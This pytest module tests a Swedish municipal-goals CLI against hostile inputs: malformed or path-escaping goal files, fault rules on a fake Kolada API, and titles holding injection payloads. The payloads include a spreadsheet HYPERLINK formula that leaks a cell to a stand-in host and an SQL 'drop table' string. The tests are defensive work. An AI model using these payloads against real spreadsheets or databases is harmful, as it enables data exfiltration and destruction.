"""Hostile inputs, run end to end as a user runs the program: `python -m kolada_goals.cli ...`
in a subprocess, its output piped to a file, against the fake Kolada on 127.0.0.1.

The corpus and the clean outcome expected of each input are listed in tests/hostile/README.md.
Four kinds:

- goal files that must be refused by `goals validate` (exit 1, the file and the error code
  named, nothing of what the file points at echoed), and that fail alone in a nightly run
  (the good kommun loads, the hostile files' kommuner get no definitions);
- titles from Kolada and from a goal file that are formulas, markup, escapes or SQL-like text:
  stored as written, printed literally by `status`, never a formula in `export`;
- fault rules for the fake Kolada (tests/hostile/kolada-faults/*.json): a run that meets one
  fails with a message naming the URL or record at fault and leaves the published database
  unchanged, and sends nothing to another host, scheme or port;
- the slow faults (a dripping body, a body that is never JSON), which must wait out the
  client's deadline and back-off: started in the background when the module starts.

The runs share one good published database, made once per module by a small run (three
synthetic KPIs, 2019-2021, no rate limit) and copied for every test, and one Prefect API
(PREFECT_API_URL), so each run takes seconds.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import duckdb
import httpx
import openpyxl
import pytest
from prefect.settings import PREFECT_API_URL, temporary_settings

from flows.temporary_server import prefect_api_for_this_run
from kolada_goals.fake import FakeDataset, Fault, FaultPlan, create_app, serve_in_thread
from kolada_goals.fake.app import FakeState
from kolada_goals.fake.synthetic import synthetic_dataset, synthetic_metadata
from kolada_goals.goals.source import MAX_GOAL_FILE_BYTES

pytestmark = pytest.mark.slow

REPOSITORY = Path(__file__).resolve().parents[2]
HOSTILE = Path(__file__).resolve().parents[1] / "hostile"
HOSTILE_GOALS = HOSTILE / "goals"
FAULT_RULES = HOSTILE / "kolada-faults"
TITLES_GOAL_FILE = HOSTILE / "titles" / "0101-hostile-titles.yaml"
KOLADA_KPI_TITLES: dict[str, str] = json.loads(
    (HOSTILE / "kolada-kpi-titles.json").read_text(encoding="utf-8")
)
KOMMUN = "0101"
EXTRA_KPI = "N90002"
YEARS = "2019-2021"
TRAP_HOST = "127.0.0.2"  # a host no request may reach
RUN_SECONDS = 300  # a run that takes longer is stuck: fail it instead of hanging the suite
# What /etc/passwd always holds: text that must never reach an output or the database.
PASSWD_CONTENT = "root:x:0:0"
SECRET_CSV_CONTENT = "HEMLIGT-SYNTETISKT-INNEHALL-4711"


# --- running the program ---------------------------------------------------------------


@dataclass(frozen=True)
class Finished:
    returncode: int
    output: str  # stdout and stderr together, as a user piping both to a file sees them


def start_cli(
    arguments: list[str], output: Path, environment: dict[str, str]
) -> subprocess.Popen[bytes]:
    """`python -m kolada_goals.cli ARGUMENTS` from the repository root, both streams
    piped to `output`."""
    with output.open("wb") as sink:
        return subprocess.Popen(
            [sys.executable, "-m", "kolada_goals.cli", *arguments],
            cwd=REPOSITORY,
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=sink,
            stderr=subprocess.STDOUT,
        )


def finish(process: subprocess.Popen[bytes], output: Path) -> Finished:
    try:
        process.wait(timeout=RUN_SECONDS)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
        raise
    return Finished(process.returncode, output.read_text(encoding="utf-8", errors="replace"))


def run_cli(arguments: list[str], output: Path, environment: dict[str, str]) -> Finished:
    return finish(start_cli(arguments, output, environment), output)


def assert_no_traceback(finished: Finished) -> None:
    assert "Traceback" not in finished.output, finished.output


@pytest.fixture(scope="module")
def environment() -> Iterator[dict[str, str]]:
    """The environment of every run: one Prefect API for the module (the project's own
    temporary server, as `kolada-goals run` starts it, but kept for the module; it dies with
    this process), and no Kolada URL from the caller's environment."""
    base = {key: value for key, value in os.environ.items() if key != "PREFECT_API_URL"}
    base.pop("KOLADA_BASE_URL", None)
    base |= {"PYTHONUNBUFFERED": "1"}
    with (
        temporary_settings(restore_defaults={PREFECT_API_URL}),
        prefect_api_for_this_run() as api_url,
    ):
        yield base | {"PREFECT_API_URL": api_url}


# --- the fake Kolada ---------------------------------------------------------------------


def hostile_title_dataset() -> FakeDataset:
    """The synthetic catalogue, with KPI titles from tests/hostile/kolada-kpi-titles.json."""
    kpis, municipalities, groups = synthetic_metadata()
    for kpi in kpis:
        kpi["title"] = KOLADA_KPI_TITLES.get(kpi["id"], kpi["title"])
    return synthetic_dataset(kpis, municipalities, groups)


@contextmanager
def fake_kolada(
    dataset: FakeDataset, plan: FaultPlan | None = None, host: str = "127.0.0.1"
) -> Iterator[tuple[str, FakeState]]:
    """The fake served on a loopback address: (base URL, its state with every request seen)."""
    app = create_app(dataset, plan)
    with serve_in_thread(app, host) as base_url:
        yield base_url, app.state.fake


def fault_plan(rule_file: Path, **ports: int) -> FaultPlan:
    """The rules of `rule_file`, each {name} placeholder set to the port `name` served."""
    text = rule_file.read_text(encoding="utf-8")
    for name, port in ports.items():
        text = text.replace(f"{{{name}}}", str(port))
    rules = json.loads(text)
    return FaultPlan([Fault(**rule) for rule in rules])


def port_of(base_url: str) -> int:
    port = httpx.URL(base_url).port
    assert port is not None
    return port


# --- databases ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Databases:
    published: Path
    work: Path
    goals: Path

    def copy_to(self, folder: Path) -> Databases:
        """A copy of both databases under `folder`, with the same goals folder."""
        (folder / "work").mkdir(parents=True)
        published = folder / self.published.name
        work = folder / "work" / self.work.name
        shutil.copy2(self.published, published)
        shutil.copy2(self.work, work)
        return Databases(published, work, self.goals)

    def run_arguments(self, base_url: str) -> list[str]:
        return [
            "run", "--base-url", base_url, "--database", str(self.published),
            "--work-database", str(self.work), "--goals", str(self.goals),
            "--kpi", EXTRA_KPI, "--years", YEARS, "--rate", "0", "--full",
        ]  # fmt: skip


def table_rows(database: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every base table, in a stable order: what "unchanged" compares."""
    with duckdb.connect(str(database), read_only=True) as con:
        names = [
            name
            for (name,) in con.execute(
                "select table_name from information_schema.tables "
                "where table_type = 'BASE TABLE' order by table_name"
            ).fetchall()
        ]
        return {
            name: sorted(con.execute(f'select * from "{name}"').fetchall(), key=repr)
            for name in names
        }


def values_of(database: Path) -> list[tuple[Any, ...]]:
    with duckdb.connect(str(database), read_only=True) as con:
        return con.execute(
            "select kpi_id, municipality_id, period, gender, value from core_kpi_value order by all"
        ).fetchall()


@pytest.fixture(scope="module")
def good_run(tmp_path_factory: pytest.TempPathFactory, environment: dict[str, str]) -> Databases:
    """One good run for the module: the goal file with hostile titles, Kolada's hostile KPI
    titles, three KPIs, 2019-2021."""
    folder = tmp_path_factory.mktemp("good-run")
    goals = folder / "goals"
    goals.mkdir()
    shutil.copy2(TITLES_GOAL_FILE, goals)
    databases = Databases(
        folder / "kolada_goals.duckdb", folder / "work" / "kolada_goals.duckdb", goals
    )
    with fake_kolada(hostile_title_dataset()) as (base_url, _state):
        finished = run_cli(databases.run_arguments(base_url), folder / "run.log", environment)
    assert finished.returncode == 0, finished.output
    return databases


# --- kind 1: goal files -------------------------------------------------------------------


@dataclass(frozen=True)
class GoalFileCase:
    file_name: str
    code: str  # the error code of docs/goal-definitions.md
    never_shown: tuple[str, ...] = ()  # text that must appear in no output


GOAL_FILE_CASES = [
    GoalFileCase("0108-alias-bomb.yaml", "yaml_too_complex"),
    GoalFileCase("0115-deep-nesting.yaml", "yaml_too_complex"),
    GoalFileCase("0122-not-utf8.yaml", "encoding"),
    GoalFileCase("0129-local-csv-parent-escape.yaml", "local_csv_path", (PASSWD_CONTENT,)),
    GoalFileCase("0136-local-csv-absolute.yaml", "local_csv_path", (PASSWD_CONTENT,)),
    GoalFileCase("0143-local-csv-secret-row.yaml", "local_values", (SECRET_CSV_CONTENT,)),
    GoalFileCase("0150-oversized.yaml", "file_too_large"),  # made at test time
]
GOAL_FILE_KOMMUNER = [case.file_name[:4] for case in GOAL_FILE_CASES]


def write_oversized_goal_file(folder: Path) -> Path:
    """A valid-looking goal file just over the size limit, padded with a comment."""
    path = folder / "0150-oversized.yaml"
    head = (TITLES_GOAL_FILE.read_text(encoding="utf-8")).replace('"0101"', '"0150"')
    padding = "# SYNTETISK utfyllnad\n" * (MAX_GOAL_FILE_BYTES // 20)
    path.write_text(head + padding, encoding="utf-8")
    assert path.stat().st_size > MAX_GOAL_FILE_BYTES
    return path


def hostile_goals_folder(folder: Path) -> Path:
    """The hostile goal files (with the CSV beside them) and the oversized one, in `folder`."""
    shutil.copytree(HOSTILE_GOALS, folder)
    write_oversized_goal_file(folder)
    return folder


@pytest.mark.parametrize("case", GOAL_FILE_CASES, ids=lambda case: case.file_name)
def test_goals_validate_refuses_a_hostile_goal_file(
    case: GoalFileCase, good_run: Databases, environment: dict[str, str], tmp_path: Path
) -> None:
    goals = hostile_goals_folder(tmp_path / "goals")
    path = goals / case.file_name
    finished = run_cli(
        ["goals", "validate", str(path), "--database", str(good_run.published)],
        tmp_path / "validate.log",
        environment,
    )
    assert finished.returncode == 1, finished.output
    assert_no_traceback(finished)
    problem_lines = [line for line in finished.output.splitlines() if f"[{case.code}]" in line]
    assert problem_lines, finished.output
    assert all(line.startswith(f"{path}:") for line in problem_lines), finished.output
    for text in case.never_shown:
        assert text not in finished.output


@pytest.fixture(scope="module")
def hostile_goals_run(
    good_run: Databases, environment: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Finished, Databases, dict[str, list[tuple[Any, ...]]]]:
    """One nightly run whose goals folder holds the good file and every hostile one."""
    folder = tmp_path_factory.mktemp("hostile-goals-run")
    goals = hostile_goals_folder(folder / "goals")
    shutil.copy2(TITLES_GOAL_FILE, goals)
    databases = Databases(**{**good_run.copy_to(folder / "db").__dict__, "goals": goals})
    before = table_rows(databases.published)
    with fake_kolada(hostile_title_dataset()) as (base_url, _state):
        finished = run_cli(databases.run_arguments(base_url), folder / "run.log", environment)
    return finished, databases, before


GOAL_TABLES = ("goal", "goal_indicator", "goal_local_value", "goal_indicator_target")


@pytest.mark.parametrize("case", GOAL_FILE_CASES, ids=lambda case: case.file_name)
def test_a_hostile_goal_file_fails_alone_in_a_nightly_run(
    case: GoalFileCase,
    hostile_goals_run: tuple[Finished, Databases, dict[str, list[tuple[Any, ...]]]],
) -> None:
    finished, databases, before = hostile_goals_run
    assert finished.returncode == 0, finished.output
    assert_no_traceback(finished)
    path = databases.goals / case.file_name
    assert any(
        line.lstrip().startswith(f"{path}:") and f"[{case.code}]" in line
        for line in finished.output.splitlines()
    ), finished.output
    after = table_rows(databases.published)
    kommun_id = case.file_name[:4]
    for table in GOAL_TABLES:
        # The good kommun's definitions are as before; the hostile file's kommun got none.
        assert after[table] == before[table], table
        assert not any(kommun_id in row for row in after[table]), table
    everything = repr(after)
    for text in (*case.never_shown, PASSWD_CONTENT):
        assert text not in everything
        assert text not in finished.output


# --- kind 2: hostile titles ---------------------------------------------------------------


HOSTILE_TITLES = [
    '=HYPERLINK("http://x/?leak="&A1,"y")',
    "=1+1",
    "+1",
    "@SUM(1)",
    "[/]",
    "[link=http://x]y[/link]",
    "\x1b[31mröd text (SYNTETISK)",
    "Kommunens mål för O'Brien's skola (SYNTETISK)",
    "'; drop table goal; --",
    KOLADA_KPI_TITLES["N90001"],
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class TitleOutputs:
    status: Finished
    xlsx_cells: list[Any] = field(default_factory=list)  # openpyxl cells of every sheet
    csv_cells: list[str] = field(default_factory=list)
    goal_titles: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def title_outputs(
    good_run: Databases, environment: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> TitleOutputs:
    """The goal tree and the xlsx and csv exports of the kommun whose titles are hostile."""
    folder = tmp_path_factory.mktemp("titles")
    database = ["--kommun", KOMMUN, "--database", str(good_run.published)]
    status = run_cli(["status", *database], folder / "status.log", environment)
    xlsx = run_cli(
        ["export", *database, "--format", "xlsx", "--out", str(folder / "mal.xlsx")],
        folder / "xlsx.log",
        environment,
    )
    exported_csv = run_cli(
        ["export", *database, "--format", "csv", "--out", str(folder / "mal.csv")],
        folder / "csv.log",
        environment,
    )
    for finished in (status, xlsx, exported_csv):
        assert finished.returncode == 0, finished.output
        assert_no_traceback(finished)
    book = openpyxl.load_workbook(folder / "mal.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    csv_cells = []
    for path in (folder / "mal-mal.csv", folder / "mal-indikatorer.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            csv_cells += [cell for row in csv.reader(handle) for cell in row]
    with duckdb.connect(str(good_run.published), read_only=True) as con:
        goal_titles = [title for (title,) in con.execute("select title from goal").fetchall()]
    return TitleOutputs(status, cells, csv_cells, goal_titles)


OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def ooxml_text(value: object) -> object:
    """A cell's text as a spreadsheet shows it: xlsx files write control characters as
    _xHHHH_, which openpyxl leaves as they are."""
    if not isinstance(value, str):
        return value
    return OOXML_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), value)


def shown_literally(text: str) -> str:
    """How the terminal output shows `text`: control characters as \\xNN."""
    return "".join(f"\\x{ord(c):02x}" if ord(c) < 0x20 else c for c in text)


@pytest.mark.parametrize("title", HOSTILE_TITLES, ids=repr)
def test_a_hostile_title_is_data_in_every_output(title: str, title_outputs: TitleOutputs) -> None:
    # The goal tree prints it as written, escape characters made visible.
    assert shown_literally(title) in title_outputs.status.output
    assert "\x1b" not in title_outputs.status.output
    # xlsx: the very text, as a string; never a formula, never a link.
    matching = [cell for cell in title_outputs.xlsx_cells if ooxml_text(cell.value) == title]
    assert matching, f"{title!r} is in no xlsx cell"
    assert all(cell.data_type == "s" for cell in matching)
    assert not [cell for cell in title_outputs.xlsx_cells if cell.data_type == "f"]
    assert not [cell for cell in title_outputs.xlsx_cells if cell.hyperlink is not None]
    # csv: text a spreadsheet would run gets a leading apostrophe.
    expected_csv = f"'{title}" if title.startswith(FORMULA_START) else title
    assert expected_csv in title_outputs.csv_cells
    assert not [c for c in title_outputs.csv_cells if c.startswith(FORMULA_START)]


def test_a_goal_title_of_sql_is_stored_as_written(title_outputs: TitleOutputs) -> None:
    # The goal table is still there, with every goal of the file and the title verbatim.
    assert "'; drop table goal; --" in title_outputs.goal_titles
    assert len(title_outputs.goal_titles) == 7


# --- kind 3: fault rules for the fake Kolada ---------------------------------------------


@dataclass(frozen=True)
class FaultCase:
    rule_file: str
    message: str  # what the error says
    names: str  # the URL or record it names
    body: str | None = None  # in the refused page's body, kept in raw_page


FAULT_CASES = [
    FaultCase("next-url-other-host.json", "leaves the base URL", f"http://{TRAP_HOST}:"),
    FaultCase("next-url-other-scheme.json", "leaves the base URL", "https://127.0.0.1:"),
    FaultCase("next-url-other-port.json", "leaves the base URL", "next_url http://127.0.0.1:"),
    FaultCase("next-url-endless.json", "still a next_url after", "page=5"),
    FaultCase("next-url-loop-duplicated-page.json", "loops back to a visited page", "/v3/data/"),
    FaultCase("oversized-body.json", "max_body_bytes", "/v3/data/"),
    FaultCase(
        "envelope-without-values.json",
        "not a Kolada envelope with a `values` list",
        "/v3/data/",
        body="",
    ),
    FaultCase(
        "record-municipality-9999.json",
        "'9999' is not a place Kolada's catalogue lists",
        '"municipality":"9999"',
        body='"9999"',
    ),
    FaultCase("record-period-1851.json", "1851", '"period":1851', body="1851"),
    FaultCase("record-kpi-not-asked.json", "was not asked for", '"kpi":"N99999"', body="N99999"),
]


@pytest.mark.parametrize("case", FAULT_CASES, ids=lambda case: case.rule_file)
def test_a_kolada_fault_fails_the_run_and_leaves_the_published_database(
    case: FaultCase, good_run: Databases, environment: dict[str, str], tmp_path: Path
) -> None:
    databases = good_run.copy_to(tmp_path / "db")
    before = table_rows(databases.published)
    with ExitStack() as stack:
        # A fake on another host and one on another port, as targets: nothing may reach them.
        trap_host_url, trap_host = stack.enter_context(
            fake_kolada(hostile_title_dataset(), host=TRAP_HOST)
        )
        trap_port_url, trap_port = stack.enter_context(fake_kolada(hostile_title_dataset()))
        base_url, kolada = stack.enter_context(fake_kolada(hostile_title_dataset()))
        kolada.faults = fault_plan(
            FAULT_RULES / case.rule_file,
            port=port_of(base_url),
            trap_host_port=port_of(trap_host_url),
            trap_port=port_of(trap_port_url),
        )
        finished = run_cli(databases.run_arguments(base_url), tmp_path / "run.log", environment)
        assert trap_host.requests == [] and trap_port.requests == [], "a request left Kolada"
        assert any(fault.used for fault in kolada.faults.faults), "the fault never applied"
    assert finished.returncode == 1, finished.output
    assert_no_traceback(finished)
    assert case.message in finished.output, finished.output
    assert case.names in finished.output, finished.output
    assert f"published database {databases.published} is unchanged" in finished.output
    assert table_rows(databases.published) == before
    if case.body is not None:  # the refused page stays in raw_, its body as received
        with duckdb.connect(str(databases.work), read_only=True) as con:
            refused = con.execute(
                "select page_url, error, body from raw_page where error is not null"
            ).fetchall()
        assert [(url, error) for url, error, _ in refused if case.message in error], refused
        assert any(case.body in body for _, error, body in refused if case.message in error)


# --- kind 4: slow faults, started in the background ---------------------------------------


@dataclass(frozen=True)
class SlowFaultCase:
    rule_file: str
    returncode: int
    message: str


SLOW_FAULT_CASES = [
    # Cut at the deadline of 60 s per request (body included), retried, then answered.
    SlowFaultCase("dripping-body.json", 0, "timed out (limit 60.0 s per request)"),
    # Not JSON on every attempt: retried with back-off (about 35 s), then the run fails.
    SlowFaultCase("malformed-json.json", 1, "malformed JSON"),
]


@dataclass
class SlowRun:
    process: subprocess.Popen[bytes]
    output: Path
    databases: Databases
    before: dict[str, list[tuple[Any, ...]]]
    kolada: FakeState


@pytest.fixture(scope="module", autouse=True)
def slow_fault_runs(
    good_run: Databases, environment: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, SlowRun]]:
    """The runs that must wait out a deadline or back-off, started when the module starts so
    that they wait while the other tests run."""
    runs: dict[str, SlowRun] = {}
    with ExitStack() as stack:
        for case in SLOW_FAULT_CASES:
            folder = tmp_path_factory.mktemp(case.rule_file.removesuffix(".json"))
            databases = good_run.copy_to(folder / "db")
            base_url, kolada = stack.enter_context(
                fake_kolada(hostile_title_dataset(), fault_plan(FAULT_RULES / case.rule_file))
            )
            output = folder / "run.log"
            process = start_cli(databases.run_arguments(base_url), output, environment)
            stack.callback(_stop, process)
            runs[case.rule_file] = SlowRun(
                process, output, databases, table_rows(databases.published), kolada
            )
        yield runs


def _stop(process: subprocess.Popen[bytes]) -> None:
    if process.poll() is None:
        process.kill()
        process.wait()


@pytest.mark.parametrize("case", SLOW_FAULT_CASES, ids=lambda case: case.rule_file)
def test_a_slow_kolada_fault_is_bounded(
    case: SlowFaultCase, slow_fault_runs: dict[str, SlowRun], good_run: Databases
) -> None:
    run = slow_fault_runs[case.rule_file]
    finished = finish(run.process, run.output)
    assert finished.returncode == case.returncode, finished.output
    assert_no_traceback(finished)
    assert case.message in finished.output, finished.output
    assert "/v3/data/" in finished.output, finished.output
    if case.returncode:
        assert f"published database {run.databases.published} is unchanged" in finished.output
        assert table_rows(run.databases.published) == run.before
    else:
        # The retried request answered in full: the values are Kolada's, as in the good run.
        assert values_of(run.databases.published) == values_of(good_run.published)


def test_a_failed_run_prints_no_traceback(slow_fault_runs: dict[str, SlowRun]) -> None:
    run = slow_fault_runs["malformed-json.json"]
    finished = finish(run.process, run.output)
    assert finished.returncode == 1, finished.output
    assert "error: " in finished.output
    assert_no_traceback(finished)
